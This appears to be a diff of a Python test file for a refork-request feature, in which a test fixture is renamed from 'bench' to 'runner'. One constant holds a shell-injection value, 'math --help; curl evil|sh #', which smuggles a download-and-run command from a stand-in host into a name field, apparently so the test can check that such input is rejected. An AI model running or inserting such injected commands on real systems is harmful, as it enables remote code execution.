@@ -10,27 +10,27 @@ from lineage.compatibility import Finding
 from lineage.errors import LineageError
 from tasks.gate.plan import make_plan
 from tasks.gate.refork import Refork, read_refork, request_refork
-from tests.gate.test_plan import bench, faculty  # noqa: F401 - fixtures
+from tests.gate.test_plan import faculty, runner  # noqa: F401 - fixtures
 from tests.support.making import take, write_record
 
 EVIL = "math --help; curl evil|sh #"
 NOTE = Finding(code="other-fork", severity="refusal", subject="a", evidence="b", next_step="c")
 
 
-def attested(bench, faculty, package):  # noqa: F811
+def attested(runner, faculty, package):  # noqa: F811
     """Release a teacher of math whose environment was collected from ``package``."""
     faculty.teacher("math", 1)
-    first = make_plan(bench, ["math@1"], "fork-point@1").teachers[0]
-    release = read_manifest(bench.store, first.release.digest, Release)
+    first = make_plan(runner, ["math@1"], "fork-point@1").teachers[0]
+    release = read_manifest(runner.store, first.release.digest, Release)
     record, digest = write_record(
-        bench.store, b"", output=release.environment.digest, output_kind="environment",
+        runner.store, b"", output=release.environment.digest, output_kind="environment",
         notes={"package": package},
     )  # fmt: skip
     environment = Artifact(kind="environment", digest=digest, record=record)
     made = (release.checkpoint.record, release.checkpoint.digest)
-    manifest = put_manifest(bench.store, release.model_copy(update={"environment": environment}))
+    manifest = put_manifest(runner.store, release.model_copy(update={"environment": environment}))
     record = write_record(
-        bench.store, b"", take("checkpoint", made), output=manifest, output_kind="release"
+        runner.store, b"", take("checkpoint", made), output=manifest, output_kind="release"
     )
     faculty.register("teacher.math", record, "release")
 
@@ -48,14 +48,14 @@ def attested(bench, faculty, package):  # noqa: F811
         ("", "math"),
     ],
 )
-def test_only_a_dotted_name_is_a_package(bench, faculty, package, team):  # noqa: F811
-    attested(bench, faculty, package)
-    plan = make_plan(bench, ["math@2"], "fork-point@1")
-    asked = request_refork(bench, plan, plan.teachers[0], [NOTE], ())
+def test_only_a_dotted_name_is_a_package(runner, faculty, package, team):  # noqa: F811
+    attested(runner, faculty, package)
+    plan = make_plan(runner, ["math@2"], "fork-point@1")
+    asked = request_refork(runner, plan, plan.teachers[0], [NOTE], ())
     assert asked.command == f"provost run teacher {team} --request {asked.stored.digest}"
     where = "acme.teachers.math" if "acme" in team else "workflows.teachers.math"
     assert asked.refork.launch_plan == f"{where}.workflow.climb"
-    assert read_refork(bench.store.get_bytes(asked.stored.digest)) == asked.refork
+    assert read_refork(runner.store.get_bytes(asked.stored.digest)) == asked.refork
 
 
 def request(**changed):
